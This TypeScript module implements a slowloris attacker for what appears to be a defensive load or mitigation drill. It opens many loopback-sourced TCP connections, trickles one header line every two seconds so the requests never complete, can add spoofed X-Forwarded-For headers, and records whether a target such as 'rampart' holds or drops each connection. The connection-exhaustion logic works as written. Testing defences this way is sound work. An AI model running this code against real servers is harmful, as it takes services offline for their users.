// The slowloris attacker: raw TCP connections from many loopback sources,
// each sending a request head one header line every 2 s and never finishing
// it, to exhaust the target's connection slots. Opens `rate` connections per
// second up to sources × connectionsPerSource open at once; every socket is
// destroyed at `until`. A connection the target lets hold its slot for HOLD_MS
// counts as "reached" (not mitigated); one closed or refused sooner as refused;
// one opened less than HOLD_MS before the end is undetermined and not counted.
import { connect, type Socket } from 'node:net';
import { loopbackSource } from './addresses.js';
import { sleepUntil } from './legit.js';
import type { Recorder } from './recorder.js';
import type { Scenario } from './scenarios.js';
import type { Target } from './target.js';

export interface SlowlorisOptions {
  scenario: Scenario;
  target: Target;
  rate: number;
  sources: number;
  recorder: Recorder;
  start: number;
  until: number;
  xffOf?: (i: number) => string;
}

const TRICKLE_MS = 2000;
export const HOLD_MS = 5000;

export async function runSlowloris(o: SlowlorisOptions): Promise<void> {
  const maxOpen = o.sources * o.scenario.connectionsPerSource;
  const open = new Map<Socket, number>();
  let seq = 0;
  let credit = 0;
  let last = o.start;
  await sleepUntil(o.start);

  const openOne = (): void => {
    const n = seq++;
    const i = n % o.sources;
    const sentAt = Date.now();
    o.recorder.attackSent(sentAt);
    const s = connect({ host: o.target.hostname, port: o.target.port, localAddress: loopbackSource('attack', i) });
    open.set(s, sentAt);
    if (open.size > o.recorder.slowPeak) o.recorder.slowPeak = open.size;
    let reply = '';
    let lines = 0;
    const h = o.scenario.headers(i);
    let head = `GET /?slow=${n} HTTP/1.1\r\nHost: ${o.target.host}\r\nx-drill-role: attack\r\n`;
    for (let k = 0; k < h.length; k += 2) head += `${h[k]}: ${h[k + 1]}\r\n`;
    if (o.xffOf) head += `x-forwarded-for: ${o.xffOf(i)}\r\n`;
    const timer = setInterval(() => s.write(`x-pad-${lines++}: ${lines}\r\n`), TRICKLE_MS);
    s.setNoDelay(true);
    s.on('connect', () => s.write(head));
    s.on('data', (d) => {
      if (reply.length < 512) reply += d.toString('latin1');
    });
    s.on('error', () => {});
    s.on('close', () => {
      clearInterval(timer);
      if (!open.delete(s)) return; // our own teardown, already counted
      o.recorder.slowClosedByTarget++;
      const status = /^HTTP\/1\.[01] (\d{3})/.exec(reply)?.[1];
      const verdict = /\r\nrampart-verdict: ([^\r]+)/i.exec(reply)?.[1];
      const held = Date.now() - sentAt >= HOLD_MS;
      o.recorder.attackResult(sentAt, held, verdict ?? (status ? `status/${status}` : 'closed-by-target'), false);
    });
  };

  while (Date.now() < o.until) {
    const now = Date.now();
    credit = Math.min(credit + ((now - last) / 1000) * o.rate, o.rate * 0.05 + 1);
    last = now;
    while (credit >= 1 && open.size < maxOpen) {
      credit--;
      openOne();
    }
    if (open.size >= maxOpen) credit = 0;
    await new Promise((r) => setTimeout(r, 10));
  }
  const end = Date.now();
  for (const [s, openedAt] of open) {
    open.delete(s);
    if (end - openedAt >= HOLD_MS) o.recorder.attackResult(openedAt, true, '', false);
    else o.recorder.attackUndetermined(openedAt);
    s.destroy();
  }
  await new Promise((r) => setImmediate(r));
}
